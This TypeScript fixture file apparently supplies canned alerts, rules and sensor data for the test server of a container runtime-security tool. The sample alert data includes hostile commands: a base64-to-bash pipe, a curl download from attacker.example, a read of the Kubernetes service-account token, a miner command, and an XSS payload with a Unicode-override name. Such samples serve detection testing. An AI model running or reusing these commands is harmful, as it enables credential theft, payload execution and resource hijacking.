import {
  type Alert,
  type AlertSummary,
  alertSchema,
  type Notification,
  notificationSchema,
  type Rule,
  ruleSchema,
  type Sensor,
  type Status,
  sensorSchema,
  statusSchema,
} from "@atalaya/wire/api";
import { makeBlocking } from "./canned-blocking.ts";
import { cannedRecorder } from "./canned-recorder.ts";

// What the contract server answers. Everything passes through the wire's schemas, so that it cannot drift from what a
// hub may send. Names of the world are invented.

const nowUs = () => Date.now() * 1000;
const secondUs = 1_000_000;
const containerId = "9c41e7d0a2f1b7c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b";

const webShell = {
  rule: "Web Shell",
  source: "syscall",
  title: { en: "Possible web shell activity detected", es: "Posible actividad de shell web detectada" },
  summary: {
    en: "The web server “php-fpm” started “sh -c echo Y3VybCAtcyAt | base64 -d | bash” in pod storefront-7d9f",
    es: "El servidor web «php-fpm» arrancó «sh -c echo Y3VybCAtcyAt | base64 -d | bash» en el pod storefront-7d9f",
  },
  severity: "high",
  priority: "Critical",
  where: {
    cluster: "shop-eu",
    node: "node-3",
    namespace: "web",
    pod: "storefront-7d9f",
    pod_uid: "0f0e8f2c-3a0a-4e0b-8a1e-2f6f1a4f7c11",
    container_id: containerId,
    container_name: "php",
    container_runtime: "containerd",
    image: "registry.example/shop/storefront:4.2",
  },
  attack: [
    { id: "T1505.003", name: "Server Software Component: Web Shell", tactic: "Persistence" },
    { id: "T1059.004", name: "Unix Shell", tactic: "Execution" },
  ],
  tags: ["container", "process", "T1505.003"],
} as const;

const kinds = [
  webShell,
  {
    ...webShell,
    rule: "Miner",
    title: {
      en: "Digital currency mining behaviour detected",
      es: "Detectado comportamiento de minería de criptomonedas",
    },
    summary: {
      en: "“./kworkerd -o 203.0.113.9:3333” spoke to a mining pool from container 9c41e7d0a2f1",
      es: "«./kworkerd -o 203.0.113.9:3333» habló con un grupo de minería desde el contenedor 9c41e7d0a2f1",
    },
    severity: "critical",
    where: {
      cluster: "local",
      node: "node-3",
      container_id: containerId,
      container_bundle: "/run/atalaya/victim",
      container_runtime: "runc",
      reason: "the bundle has no annotations",
    },
    attack: [{ id: "T1496.001", name: "Resource Hijacking: Compute Hijacking", tactic: "Impact" }],
  },
  {
    ...webShell,
    rule: "Drift Binary Executed",
    title: {
      en: "A drift binary was executed in the container",
      es: "Se ejecutó en el contenedor un binario ajeno a la imagen",
    },
    summary: {
      en: "“/var/www/html/kworkerd” is not from the image and was run by “sh”",
      es: "«/var/www/html/kworkerd» no es de la imagen y lo ejecutó «sh»",
    },
    severity: "medium",
    tags: ["container", "process", "drift", "T1036"],
    attack: [{ id: "T1036", name: "Masquerading", tactic: "Defense Evasion" }],
  },
  {
    ...webShell,
    rule: "Cluster Admin Binding",
    source: "k8s_audit",
    title: { en: "New high privileges role binding", es: "Nueva vinculación a un rol con privilegios altos" },
    summary: {
      en: "system:serviceaccount:web:default bound cluster-admin to “build-bot”",
      es: "system:serviceaccount:web:default vinculó cluster-admin a «build-bot»",
    },
    severity: "low",
    where: { cluster: "shop-eu", namespace: "web", resource: "clusterrolebindings", object_name: "build-bot" },
    attack: [{ id: "T1098.006", name: "Additional Container Cluster Roles", tactic: "Privilege Escalation" }],
  },
  {
    ...webShell,
    rule: "Hostile Name",
    title: { en: "Command within a container accessed ld.so.preload", es: "Un comando accedió a ld.so.preload" },
    summary: {
      en: "“cat \u202egpj.exe\u202c /etc/ld.so.preload\n<img src=x onerror=alert(1)>\u0007” read the preload file",
      es: "«cat \u202egpj.exe\u202c /etc/ld.so.preload\n<img src=x onerror=alert(1)>\u0007» leyó el archivo",
    },
    severity: "informational",
    attack: [{ id: "T1574.006", name: "Dynamic Linker Hijacking", tactic: "Defense Evasion" }],
  },
] as const;

const triage = [
  {
    en: "Take the page away from the attacker before you look further: kubectl -n web label pod storefront-7d9f quarantine=true --overwrite",
    es: "Quite la página al atacante antes de seguir mirando: kubectl -n web label pod storefront-7d9f quarantine=true --overwrite",
  },
  {
    en: "Look at where it answers: kubectl get svc -n web -o wide, and try it from outside.",
    es: "Mire dónde responde: kubectl get svc -n web -o wide, y pruébelo desde fuera.",
  },
  {
    en: "The token of web/default was read: rotate it, and read what it did since.",
    es: "Se leyó el token de web/default: renuévelo y lea qué hizo desde entonces.",
  },
];

/** The `n`th alert; the kinds take turns. */
export function makeAlert(n: number, change: Partial<AlertSummary> = {}): Alert {
  const kind = kinds[n % kinds.length] ?? webShell;
  const at = nowUs() - (n * n * 7 + n * 40 + 4) * secondUs;
  return alertSchema.parse({
    ...kind,
    alert_id: `alert-${String(n).padStart(4, "0")}`,
    status: "new",
    assignee: null,
    muted: false,
    count: n % 3 === 0 ? 12 : 1,
    first_seen_us: at - 4 * secondUs,
    last_seen_us: at,
    committed_us: at - 4 * secondUs + 182_000,
    description: {
      en: "A web server started a shell. Whoever can call the page that did it can run commands in this pod.",
      es: "Un servidor web arrancó un shell. Quien pueda llamar a la página que lo hizo puede ejecutar órdenes en este pod.",
    },
    triage,
    blind_spots: [
      {
        en: "A web shell that starts no process is not seen here.",
        es: "Un shell web que no arranca procesos no se ve aquí.",
      },
    ],
    who: { uid: 33, user: "www-data", login_uid: 4_294_967_295 },
    why: why(),
    rule_file: "detections/packs/process/web-shell.yaml",
    rule_line: 14,
    condition:
      "in_a_container and program_started and is_a_shell\n  and (proc.aname in (web_servers) or proc.pname in (web_servers))",
    output: "Web server started a shell (command=sh -c echo Y3VybCAtcyAt | base64 -d | bash parent=php-fpm)",
    output_fields: {
      "proc.name": "sh",
      "proc.pname": "php-fpm",
      "proc.cmdline": "sh -c echo Y3VybCAtcyAt | base64 -d | bash",
      "k8s.pod.name": null,
    },
    process_tree: kind.source === "k8s_audit" ? [] : tree(at),
    evidence: [0, 1].map((back) => ({
      time_us: at - back * 4 * secondUs,
      output: "Web server started a shell (command=sh -c echo Y3VybCAtcyAt | base64 -d | bash parent=php-fpm)",
      output_fields: { "proc.name": "sh", "proc.pname": "php-fpm" },
      pid: 912,
    })),
    comments: [
      { time_us: at + secondUs, user: "ana", action: "comment", text: "The page came with the theme of last week." },
    ],
    raw: {
      class: "process",
      activity: "exec",
      pid: 912,
      name: "sh",
      argv: ["sh", "-c", "echo \u202eY3V | base64 -d | bash"],
    },
    ...change,
  });
}

function why(): unknown {
  const leaf = (text: string, result: boolean, value?: string) => ({
    kind: "leaf",
    text,
    result,
    ...(value === undefined ? {} : { value }),
  });
  return {
    kind: "and",
    text: "in_a_container and is_a_shell and (…)",
    result: true,
    children: [
      {
        kind: "macro",
        text: "in_a_container",
        result: true,
        children: [leaf("container.id != host", true, "9c41e7d0a2f1")],
      },
      {
        kind: "macro",
        text: "is_a_shell",
        result: true,
        children: [
          {
            kind: "or",
            text: "proc.name in (shells) or proc.exepath endswith /busybox",
            result: true,
            children: [
              leaf("proc.name in (shells)", true, "sh"),
              leaf("proc.exepath endswith /busybox", false, "/usr/bin/dash"),
              leaf("proc.exepath endswith /toybox", false, "/usr/bin/dash"),
            ],
          },
        ],
      },
      leaf("proc.aname in (web_servers)", true, "php-fpm"),
      { kind: "not", text: "not known_health_check", result: true, children: [leaf("known_health_check", false)] },
    ],
  };
}

function tree(at: number): unknown[] {
  const row = (depth: number, pid: number, name: string, cmdline: string, change: Record<string, unknown> = {}) => ({
    pid,
    start_us: pid * 1000,
    depth,
    name,
    cmdline,
    uid: 33,
    time_us: at + (pid - 912) * 15_000,
    origin: "image",
    subject: false,
    ...change,
  });
  const other = (n: number) => [{ alert_id: `alert-000${n}`, title: kinds[n]?.title }];
  return [
    row(0, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io", { uid: 0 }),
    row(1, 31, "php-fpm", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", { uid: 0 }),
    row(2, 44, "php-fpm", "php-fpm: pool www"),
    row(3, 912, "sh", 'sh -c "echo Y3VybCAtcyAt | base64 -d | bash"', { subject: true, exe_path: "/usr/bin/dash" }),
    row(4, 913, "base64", "base64 -d", { ended_us: at + 17_000 }),
    row(4, 914, "bash", "bash"),
    row(5, 920, "cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    row(5, 931, "curl", "curl -sO http://attacker.example/kworkerd"),
    row(5, 960, "kworkerd", "./kworkerd -o 203.0.113.9:3333", {
      origin: "added",
      ended_us: at + 2_500_000,
      alerts: [...other(2), ...other(1)],
    }),
    row(5, 961, "\u202egnihton", `python3 -c ${"A".repeat(700)}`, { origin: "memory" }),
  ];
}

export function makeRules(): Rule[] {
  return kinds.map((kind, n) =>
    ruleSchema.parse({
      rule: kind.rule,
      source: kind.source,
      pack: "atalaya",
      file: "detections/packs/process/web-shell.yaml",
      line: 14 + n,
      enabled: n !== 4,
      title: kind.title,
      description: makeAlert(n).description,
      severity: kind.severity,
      priority: kind.priority,
      condition: makeAlert(n).condition,
      output: "Web server started a shell (command=%proc.cmdline parent=%proc.pname)",
      tags: [...kind.tags],
      attack: kind.attack,
      triage,
      blind_spots: makeAlert(n).blind_spots,
      alerts_24h: n === 0 ? 12 : n === 1 ? 3 : 0,
      last_alert_us: n < 2 ? nowUs() - 40 * secondUs : null,
    }),
  );
}

export function makeSensors(): Sensor[] {
  const sensor = (node: string, state: Sensor["state"], change: Record<string, unknown> = {}) =>
    sensorSchema.parse({
      sensor_id: `sensor-${node}`,
      cluster: "shop-eu",
      node,
      state,
      last_seen_us: nowUs() - (state === "silent" ? 190 : 1) * secondUs,
      events_per_second: state === "silent" ? 0 : 412.4,
      lag_us: 84_000,
      lost: [],
      clock_us: state === "degraded" ? 3_900_000_000 : 1_200,
      publisher:
        state === "silent"
          ? null
          : {
              version: "0.1.0",
              epoch: "e",
              started_us: nowUs() - 7_300 * secondUs,
              now_us: nowUs(),
              cpu_us: 1,
              memory_bytes: 90_000_000,
              spool: {
                bytes: 41_943_040,
                bytes_max: 1_073_741_824,
                frames: 212,
                oldest_us: nowUs() - 42 * secondUs,
                writable: state !== "degraded",
              },
              certificate_expires_us: nowUs() + 80_000 * secondUs,
              counters: [],
              ...(state === "degraded" && { recorder: cannedRecorder }),
            },
      report: {
        node,
        boot_id: "5b1f",
        version: "0.1.0",
        kernel: "6.12.48-amd64",
        started_us: nowUs() - 7_300 * secondUs,
        lag_us: 84_000,
        processes: 412,
        containers: 23,
        memory_bytes: 141_000_000,
        cpu_us: 210_000_000,
        filters_version: 3,
        blocking: makeBlocking(state === "degraded"),
        programs: [
          { name: "sched_process_exec", loaded: true, attached: true },
          { name: "sched_process_exit", loaded: true, attached: true },
          { name: "exit_ptrace", loaded: false, attached: false, unasked: true },
          ...(state === "degraded"
            ? [
                {
                  name: "cgroup_sendmsg6",
                  loaded: false,
                  attached: false,
                  reason: "the kernel refused it: this cgroup hierarchy has no IPv6",
                },
              ]
            : []),
        ],
        counters: [
          { class: "process", reason: "attempted", value: 120_331 },
          { class: "process", reason: "submitted", value: 120_331 },
          { class: "file", reason: "attempted", value: 8_120_331 },
          { class: "file", reason: "filtered", value: 8_090_017 },
        ],
      },
      ...change,
    });
  return [
    sensor("node-1", "live"),
    sensor("node-2", "degraded", {
      lost: [
        { class: "file", reason: "ring_full", value: 1834 },
        { class: "network", reason: "throttled", value: 12 },
      ],
    }),
    sensor("node-3", "silent", { report: null }),
  ];
}

export function makeStatus(open: number, change: Partial<Status> = {}): Status {
  return statusSchema.parse({
    version: "0.1.0",
    started_us: nowUs() - 7_300 * secondUs,
    behind_us: 310_000,
    sensors_live: 3,
    sensors_total: 3,
    events_per_second: 1237,
    events_total: 9_032_114,
    lost_total: 0,
    alerts_open: open,
    rules_enabled: 4,
    rules_total: 5,
    rule_problems: [{ file: "my-rules.yaml", line: 12, column: 7, reason: "expected a value after `in`" }],
    sensor_missing: null,
    ...change,
  });
}

export function makeNotification(): Notification {
  return notificationSchema.parse({
    enabled: false,
    url: "",
    shape: "json",
    min_severity: "medium",
    stdout: false,
    file: null,
  });
}
